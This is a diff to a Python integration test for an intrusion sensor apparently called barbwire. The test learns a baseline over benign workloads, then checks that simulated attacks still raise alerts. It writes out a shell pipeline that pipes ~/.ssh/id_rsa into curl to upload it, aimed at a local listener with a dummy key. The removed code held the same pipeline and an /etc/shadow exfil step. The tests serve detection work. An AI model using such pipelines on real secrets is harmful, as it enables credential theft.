@@ -12,6 +12,11 @@ The learned binary is a copy of the python interpreter at <workspace>/tool:
 its own path, the interpreter's hash until a case appends bytes to it. The
 sensor runs with its built-in rules. Other activity on the host is learned
 too, and alerts are filtered to the pids the test starts.
+
+benign_learned_e2e_attacks_caught and benign_learned_family_attacks_caught
+(issue 5's acceptance) learn over every workload of benign_test.py and then
+run a whole attack suite, each attack checked by its own case's code, under
+the learned baseline; see "the suites under a learned baseline" below.
 """
 import json
 import os
@@ -23,6 +28,9 @@ import time
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 import harness as h  # noqa: E402
 from harness import check  # noqa: E402
+import benign_test as bt    # noqa: E402  the benign workloads
+import e2e_test as et       # noqa: E402  the issue-3 attacks
+import family_test as ft    # noqa: E402  the family and evasion attacks
 
 BW = ""
 ROOT = ""
@@ -263,55 +271,250 @@ def case_bad_baseline_refused():
         ws.cleanup()
 
 
-def case_benign_learned_attacks_caught():
-    """Issue 5: learn over everyday work (curl with its .netrc to a local server, getent,
-    id), then run --baseline: the same work is quiet, and the attacks still alert, as new."""
+# --------------------------------------------------------------------------- the suites under a learned baseline
+#
+# Issue 5: "learn over the benign suite, followed by run --baseline on the attack
+# suite: all attacks are still caught". Both cases below learn with the built-in rules
+# while every workload of benign_test.py runs (learn_benign_suite), then run the
+# attack cases' own code (e2e_test.py's BUILTIN_VARIANTS, family_test.py's ATTACKS:
+# h.Attack, set up and attack, then check once the sensor stopped) all under
+# `barbwire record TRACE --baseline FILE` (record is run plus the trace some checks
+# read), one sensor per rules file the attacks need.
+#
+# What the benign suite gives to learn: nothing. The built-in rules are tuned so that
+# every sensitive-looking open of the suite is either context (libc's name-service
+# files, ssh's known_hosts and authorized_keys: never a candidate, at any threshold) or
+# trusted (ssh reading its key, sshd /etc/shadow: the category is skipped), so learning
+# at threshold 0 finds no correlation in it; the learner's stats (-v) show that it saw
+# those opens. So that the baseline is not empty and its quieting is shown in the same
+# run as the attacks, learning also watches the host's own use of a secret (OwnUse:
+# curl logs in with ~/.netrc, which the built-in rules alert on), and under the
+# baseline that repeat must be quiet.
+
+DUMMY_NETRC = "machine 127.0.0.1 login e2e password not-a-real-one\n"
+DUMMY_KEY = "barbwire-e2e dummy key, not a real one\n"
+
+
+def suites():
+    """The other suites' modules, pointed at this run's binary and tree, their attacks
+    set to the built-in rules."""
+    for m in (bt, et, ft):
+        m.BW, m.ROOT = BW, ROOT
+    et.RULES = "builtin"
+    ft.RULES = "builtin"
+
+
+def benign_workloads():
+    """One instance of every workload class of benign_test.py. Each benign case but the
+    attack control (attack_*) must be one of them, so that no benign case is left out
+    of learning."""
+    wls = [cls() for cls in bt.Workload.__subclasses__()]
+    names = {w.name for w in wls}
+    cases = {n[len("case_"):] for n in vars(bt) if n.startswith("case_")}
+    missing = sorted(c for c in cases - names if not c.startswith("attack_"))
+    check(not missing, f"benign cases without a Workload class, which learning cannot run: {missing}")
+    return wls
+
+
+def category_of(pattern):
+    """The built-in rules' category whose patterns include `pattern`."""
+    cats = [c["category"] for c in h.builtin_rules_json(ROOT)["suspicious_files"] if pattern in c["patterns"]]
+    check(len(cats) == 1, f"no one built-in category with the pattern {pattern!r}: {cats}")
+    return cats[0]
+
+
+class OwnUse:
+    """The host's own use of a secret: curl logs in to a local HTTP server with the
+    user's ~/.netrc (--netrc-file) and posts a line. Without a baseline the built-in
+    rules alert on it (netrc is evidence, and curl is not trusted for it); learned, the
+    baseline must quiet it. The same listener (so the same port) serves learning and
+    the run under the baseline."""
+
+    def __init__(self, ws, lst):
+        self.curl = os.path.realpath(shutil.which("curl", path="/usr/bin:/bin") or "/usr/bin/curl")
+        home = ws.path("home")
+        os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
+        h.write_file(os.path.join(home, ".ssh", "id_rsa"), DUMMY_KEY, mode=0o600)
+        h.write_file(os.path.join(home, ".netrc"), DUMMY_NETRC, mode=0o600)
+        self.home = os.path.realpath(home)
+        self.env = {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": self.home}
+        self.lst = lst
+        self.url = f"http://127.0.0.1:{lst.port}"
+        self.runs = 0
+
+    def run(self):
+        """curl --netrc-file ~/.netrc -d own-use-N URL; returns the Shell, after the server
+        got the post."""
+        self.runs += 1
+        body = f"own-use-{self.runs}"
+        sh = h.Shell(f'curl -sS -f -o /dev/null --netrc-file "$HOME/.netrc" -d {body} {self.url}/up', env=self.env)
+        sh.wait()
+        check(self.lst.received(body.encode()), f"the server never got curl's post {body!r}: {self.lst.bodies()}")
+        return sh
+
+    def quiet_attack(self):
+        """The learned own use again, under the baseline: no alert in its session."""
+        def body(ws, sensor, _):
+            sh = self.run()
+            yield
+            got = sensor.alerts_in_session(sh.leader)
+            check(got == [], f"the learned own use (curl with ~/.netrc) alerted under the baseline: {got}")
+        return h.Attack("learned_own_use_is_quiet", body)
+
+    def learned_curl_attack(self):
+        """A new use of the learned curl, to the learned port: cat ~/.ssh/id_rsa | curl
+        --data-binary @-. Its alert must be "new"."""
+        def body(ws, sensor, _):
+            sh = h.Shell(f'cat "$HOME/.ssh/id_rsa" | curl -sS -f -o /dev/null --data-binary @- {self.url}/k',
+                         env=self.env)
+            sh.wait()
+            check(self.lst.received(DUMMY_KEY.encode()), "the pipeline's upload never arrived")
+            ft.settle(sensor, sh.leader)
+            yield
+            got = sensor.alerts_in_session(sh.leader)
+            check(len(got) == 1, f"the key piped into the learned curl: expected one alert, got {got}")
+            a = got[0]
+            check(a.get("baseline") == "new" and a["process"]["exe"] == self.curl
+                  and a["destination"]["port"] == self.lst.port
+                  and a["file"]["path"] == os.path.join(self.home, ".ssh", "id_rsa"),
+                  f"the key piped into the learned curl: {json.dumps(a, sort_keys=True)}")
+        return h.Attack("learned_curl_new_secret", body)
+
+
+def learner_stats(learner):
+    """The correlator's stats JSON that `learn -v` prints when it stops."""
+    line = learner.wait_stderr("barbwire: stats: ", timeout=1)
+    check(line is not None, f"learn -v printed no stats line:\n{learner.stderr()}")
+    return json.loads(line[len("barbwire: stats: "):])
+
+
+def learn_benign_suite(ws, own):
+    """`barbwire learn -v --baseline <ws>/baseline.json` (built-in rules) while every
+    benign workload runs, each in a workspace of its own prepared before learning starts
+    (as benign_test.run_benign does), then the own use; SIGINT. Returns (path, entries)."""
+    wls = benign_workloads()
+    for wl in wls:
+        wl.require()
+    spaces = []
+    try:
+        for wl in wls:
+            wws = h.Workspace()
+            spaces.append(wws)
+            home = wws.path("home")
+            os.makedirs(home, mode=0o755)
+            os.makedirs(wws.path("out"))
+            wl.prepare(wws, os.path.realpath(home))
+        base = ws.path("baseline.json")
+        # --duration bounds learning; the suite takes well under a minute, and SIGINT ends it
+        learner = h.Learner(BW, base, duration="5m", extra=("-v",))
+        try:
+            learner.start().wait_ready()
+            check(f"learning into {base}" in learner.stderr(), f"ready line should name the file:\n{learner.stderr()}")
+            t0 = time.monotonic()
+            for wl, wws in zip(wls, spaces):
+                t = time.monotonic()
+                c = bt.Ctx(wws, os.path.realpath(wws.path("home")))
+                try:
+                    wl.run(c)
+                finally:
+                    c.stop_servers()
+                print(f"learning: benign {wl.name} ran ({time.monotonic() - t:.1f} s)")
+            own.run()
+            print(f"learning: own use ran; {time.monotonic() - t0:.1f} s in all")
+            check(learner.running(), f"learn ended by itself before the suite was over:\n{learner.stderr()}")
+            learner.stop_cleanly()
+        finally:
+            learner.kill()
+    finally:
+        for wws in spaces:
+            wws.cleanup()
+    check(learner.stdout_lines() == [], f"learn printed on stdout: {learner.stdout_lines()}")
+    summary = learner.wait_stderr("barbwire: learned ", timeout=1)
+    check(summary is not None, f"no 'learned ...' summary line:\n{learner.stderr()}")
+    print(summary)
+    st = learner_stats(learner)
+    print(f"learning saw: {st.get('open_events')} opens, {st.get('sensitive_opens')} sensitive, "
+          f"{st.get('context_opens')} context, {st.get('trusted_opens')} trusted; {st.get('net_events')} "
+          f"network events, {st.get('uncorrelated_net')} uncorrelated")
+    # the suite's name-service reads and ssh's and sshd's reads were seen: context and trusted
+    check(st.get("context_opens", 0) >= 1 and st.get("trusted_opens", 0) >= 1,
+          f"learning saw no context or no trusted open, although the benign suite makes both: {st}")
+    doc, _ = read_baseline(base)
+    entries = doc["entries"]
+    for e in entries:
+        print(f"learned: {e['exe']} (reader {e['reader_exe']}) {e['category']!r} -> {e['destination']} "
+              f"{e['protocol']}/{e['port']} x{e.get('count', 1)}")
+    check(entries, "learning over the benign suite and the own use learned nothing")
+    want = {"exe": own.curl, "reader_exe": own.curl, "category": category_of("/.netrc"),
+            "destination": "loopback", "protocol": "tcp", "port": own.lst.port}
+    mine = [e for e in entries if {k: e.get(k) for k in want} == want]
+    check(len(mine) == 1, f"the baseline has no entry for the own use {want}: {entries}")
+    return base, entries
+
+
+def attacks_caught(attacks, base):
+    """The attacks together under `record --baseline base` (h.run_attacks_together); each
+    must pass its own checks, and every alert printed must say it is new to the
+    baseline (or from a changed binary): nothing seen while learning was printed."""
+    results, groups = h.run_attacks_together(BW, attacks, extra=("--baseline", base))
+    for text, sensor, names in groups:
+        what = "built-in rules" if text is None else "the rules of " + ", ".join(names)
+        check(f"baseline: {base}" in sensor.stderr(), f"{what}: ready line should name the baseline:\n"
+                                                      f"{sensor.stderr()}")
+        alerts = [a for a in sensor.alerts() if a.get("type") != "summary"]
+        seen = [a for a in alerts if a.get("baseline") not in ("new", "changed binary")]
+        check(seen == [], f"{what}: alerts printed under --baseline without a new or changed verdict: {seen}")
+        line = sensor.wait_stderr(f"barbwire: baseline {base}: ", timeout=1)
+        check(line is not None, f"{what}: no baseline summary line:\n{sensor.stderr()}")
+        print(f"{what}: {len(alerts)} alert(s); {line}")
+    bad = [(n, e) for n, e in results if e is not None]
+    for n, e in results:
+        print(f"{'ok  ' if e is None else 'FAIL'} {n}" + ("" if e is None else f": {e}"))
+    check(not bad, f"{len(bad)} of {len(results)} attack(s) failed under the learned baseline:\n"
+                   + "\n".join(f"{n}: {e}" for n, e in bad))
+    return groups
+
+
+def learned_suite_case(attack_factories):
+    """Learn over the benign suite and the own use, then the own use again (quiet), the
+    learned curl sending a new secret (new) and `attack_factories`' attacks, all under
+    the baseline."""
     h.require_root_and_sensor()
     curl = shutil.which("curl", path="/usr/bin:/bin")
     if curl is None:
         h.skip_or_fail("curl is not installed (apt-get install curl)")
-    ws, lst, sensor = h.Workspace(), h.HttpListener("127.0.0.1"), None
+    suites()
+    attacks = [f() for f in attack_factories]          # before learning: a missing program skips now
+    ws, lst = h.Workspace(), h.HttpListener("127.0.0.1")
     try:
-        home = ws.path("home")
-        os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
-        h.write_file(os.path.join(home, ".ssh", "id_rsa"), "barbwire-e2e dummy key, not a real one\n", mode=0o600)
-        h.write_file(os.path.join(home, ".netrc"), "machine 127.0.0.1 login e2e password not-a-real-one\n",
-                     mode=0o600)
-        env = {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": home}
-        url = f"http://127.0.0.1:{lst.port}"
-        benign = (f'curl -s -o /dev/null {url}/index; getent passwd root >/dev/null; id >/dev/null; '
-                  f'whoami >/dev/null; curl -s --netrc-file "$HOME/.netrc" -d hello {url}/up >/dev/null')
-        base = ws.path("baseline.json")
-        learn(ws, base, lambda: h.Shell(benign, env=env).wait())
-        doc, _ = read_baseline(base)
-        learned = entries_of(doc, os.path.realpath(curl))
-        print(f"learned for curl: {learned}")
-
-        sensor = run_with(base)
-        work = h.Shell(benign, env=env)
-        work.wait()
-        # attack 1: the interpreter reads /etc/shadow and connects
-        actor = exfil(sensor, lst)
-        got = sensor.wait_alert(actor.pid)
-        check(len(got) == 1 and got[0].get("baseline") == "new", f"shadow exfil under the baseline: {got}")
-        # attack 2: a pipeline sends the key with the curl the baseline learned
-        sh = h.Shell(f'cat "$HOME/.ssh/id_rsa" | curl -s --data-binary @- {url}/k >/dev/null', env=env)
-        sh.wait()
-        check(lst.received(b"barbwire-e2e dummy key"), "the pipeline's upload never arrived")
-        got = sensor.wait_for(lambda a: h.in_session(a, sh.leader), timeout=h.ALERT_TIMEOUT)
-        check(len(got) >= 1, f"the pipeline exfil with a learned curl must alert:\n{sensor.stderr()}")
-        a = got[0]
-        check(a.get("baseline") == "new" and a["process"]["exe"] == os.path.realpath(curl),
-              f"pipeline alert: {a}")
-        # the everyday work ran before the attacks, so its events are processed by now
-        quiet = sensor.alerts_in_session(work.leader)
-        check(quiet == [], f"the learned everyday work alerted under the baseline: {quiet}")
-        sensor.stop_cleanly()
+        own = OwnUse(ws, lst)
+        base, _ = learn_benign_suite(ws, own)
+        groups = attacks_caught([own.quiet_attack(), own.learned_curl_attack(), *attacks], base)
+        line = groups[0][1].wait_stderr(f"barbwire: baseline {base}: ", timeout=1)
+        seen = int(line.split(": ", 2)[2].split(" seen")[0])
+        check(seen >= 1, f"the own use was learned, yet nothing was seen under the baseline: {line}")
     finally:
-        if sensor is not None:
-            sensor.kill()
         lst.close()
         ws.cleanup()
+
+
+def case_benign_learned_e2e_attacks_caught():
+    """Issue 5: learn (built-in rules) over every benign workload, then under run
+    --baseline every attack of e2e_test.py's BUILTIN_VARIANTS still alerts, each
+    checked by its own code. udp_sendto_53 runs under its own rules file (the built-in
+    rules less their allowlisting of port 53), with the same baseline. record_replay
+    replays the shared trace with the same rules and baseline."""
+    learned_suite_case([getattr(et, "attack_" + n) for n in et.BUILTIN_VARIANTS])
+
+
+def case_benign_learned_family_attacks_caught():
+    """Issue 5: learn (built-in rules) over every benign workload, then under run
+    --baseline every alerting case of family_test.py (ATTACKS) still alerts, each
+    checked by its own code. hardlink_ssh_key runs under its own rules file (the
+    built-in rules plus the key's path), with the same baseline; parent_named_systemd
+    and parent_prctl_systemd run under the built-in rules (whose legit_parents name
+    systemd too) instead of the seed's file."""
+    learned_suite_case([getattr(ft, "attack_" + n) for n in ft.ATTACKS])
 
 
 # --------------------------------------------------------------------------- driver
